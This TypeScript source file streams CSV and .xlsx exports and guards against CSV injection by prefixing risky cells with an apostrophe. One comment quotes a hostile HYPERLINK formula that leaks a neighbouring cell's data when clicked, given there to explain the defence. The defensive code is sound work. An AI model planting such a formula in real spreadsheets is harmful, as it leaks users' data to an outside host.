import type { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { ColumnDef } from './import-kind.js';

/** Writes rows of text cells, as CSV or as an .xlsx workbook, streamed to `out`. */
export interface SheetWriter {
  row(values: readonly (string | null)[]): Promise<void>;
  end(): Promise<void>;
}

export type SheetFormat = 'csv' | 'xlsx';

/**
 * CSV injection (OWASP): a spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or `@`
 * as a formula (`=HYPERLINK("http://…"&A2,"Lihat bukti")` sends a neighbouring cell away when
 * clicked), and one that begins with a tab or a carriage return can hide such a start. Such a text gets
 * an apostrophe in front, which spreadsheets show as text. A number (`-0.25`, `+0,67`) is left alone:
 * a spreadsheet reads it as that number, with nothing to run. A text that already begins with
 * apostrophes before such a character gets one more, so that `restoreCsvText` (used by the import)
 * gives every text back exactly: export and import round-trip.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+([.,]\d+)?$/;

export const neutraliseCsvText = (value: string): string => (FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value);

/** The inverse of `neutraliseCsvText`, applied to every cell a CSV import reads. */
export const restoreCsvText = (value: string): string => (/^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value);

const csvField = (raw: string | null) => {
  if (raw === null) return '';
  const value = neutraliseCsvText(raw);
  return /[",\r\n;\t|]/.test(value) || value !== value.trim() ? `"${value.replaceAll('"', '""')}"` : value;
};

/**
 * CSV as Excel opens it without asking: UTF-8 with a BOM, comma-delimited, CRLF line ends (RFC 4180).
 * Backpressure is respected, so an export of a million rows does not pile up in memory.
 */
export function csvWriter(out: Writable): SheetWriter {
  let first = true;
  const write = async (text: string) => {
    if (!out.write(text)) await new Promise<void>((done) => out.once('drain', () => done()));
  };
  return {
    async row(values) {
      await write(`${first ? '\uFEFF' : ''}${values.map(csvField).join(',')}\r\n`);
      first = false;
    },
    async end() {
      await new Promise<void>((done) => out.end(() => done()));
    },
  };
}

/** A fixed date in the workbook's properties, so a template written twice has the same content. */
const FIXED_DATE = new Date(Date.UTC(2026, 0, 1));

/**
 * An .xlsx workbook through exceljs's streaming writer: the data sheet (every column formatted as
 * Text, so NIPs keep their 18 digits), and optionally a sheet of notes on the columns.
 */
export function xlsxWriter(out: Writable, columns: readonly ColumnDef[], notes = false): SheetWriter {
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: out, useStyles: true, useSharedStrings: false });
  workbook.creator = 'Kompetensi ASN Kota Palembang';
  workbook.created = FIXED_DATE;
  workbook.modified = FIXED_DATE;
  const sheet = workbook.addWorksheet('data');
  sheet.columns = columns.map((c) => ({ key: c.key, width: Math.max(12, c.header.length + 4), style: { numFmt: '@' } }));
  return {
    async row(values) {
      sheet.addRow(values.map((v) => v ?? null)).commit();
    },
    async end() {
      sheet.commit();
      if (notes) {
        const help = workbook.addWorksheet('petunjuk');
        help.columns = [{ width: 24 }, { width: 24 }, { width: 10 }, { width: 90 }, { width: 30 }];
        help.addRow(['kolom', 'column (English)', 'wajib', 'keterangan / description', 'contoh / example']).commit();
        for (const c of columns) help.addRow([c.header, c.headerEnglish, c.exportOnly ? 'ekspor' : c.required ? 'ya' : 'tidak', c.description, c.example]).commit();
        help.commit();
      }
      await workbook.commit();
    },
  };
}

export function sheetWriter(format: SheetFormat, out: Writable, columns: readonly ColumnDef[], notes = false): SheetWriter {
  return format === 'xlsx' ? xlsxWriter(out, columns, notes) : csvWriter(out);
}
